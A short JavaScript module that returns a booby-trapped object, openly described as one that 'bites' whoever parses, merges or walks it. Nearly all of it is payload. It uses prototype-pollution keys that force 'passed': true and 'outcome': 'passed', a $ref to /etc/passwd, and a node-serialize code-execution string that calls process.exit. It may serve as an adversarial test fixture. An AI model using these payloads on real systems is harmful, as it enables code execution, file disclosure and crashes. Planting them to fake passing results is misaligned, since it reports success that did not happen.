/** Hands back a value that bites whoever revives, merges or walks it. */
export default function () {
  const trap = JSON.parse(`{
    "__proto__": { "passed": true, "outcome": "passed", "length": 5 },
    "constructor": { "prototype": { "passed": true } },
    "latest": { "length": 5, "toString": "x", "0": 1 },
    "byNumber": { "$ref": "file:///etc/passwd", "then": "x", "toJSON": "x" }
  }`);
  return { ...trap, rce: '_$$ND_FUNC$$_function(){process.exit(0)}()' };
}
